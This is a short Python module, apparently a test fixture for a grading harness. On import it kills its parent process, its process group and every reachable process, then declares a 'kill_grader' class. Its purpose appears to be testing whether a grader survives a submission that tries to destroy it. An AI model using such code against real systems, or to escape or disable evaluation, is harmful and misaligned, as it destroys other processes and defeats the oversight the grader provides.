"""At import, signals every process it can: its parent, its process group, everyone."""
import os
import signal

from _honest import Correct

for action in (lambda: os.kill(os.getppid(), signal.SIGKILL), lambda: os.killpg(os.getpgrp(), signal.SIGTERM),
               lambda: os.kill(-1, signal.SIGKILL)):
    try:
        action()
    except OSError:
        pass


class KillGrader(Correct):
    name = "kill_grader"
